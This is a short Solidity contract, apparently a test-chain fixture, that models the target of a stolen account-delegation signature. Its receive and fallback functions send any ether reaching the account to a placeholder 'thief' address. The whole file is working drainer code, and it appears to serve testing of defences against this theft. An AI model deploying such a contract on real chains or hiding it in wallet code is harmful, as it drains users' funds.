// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// What a stolen signature delegates an account to, for test chains only: whatever ether reaches the account goes to the thief at once.
contract HostileDelegate {
    address payable private constant thief = payable(0x00000000000000000000000000000000DeaDBeef);

    receive() external payable {
        sweep();
    }

    fallback() external payable {
        sweep();
    }

    function sweep() public {
        (bool isSent,) = thief.call{value: address(this).balance}("");
        require(isSent);
    }
}
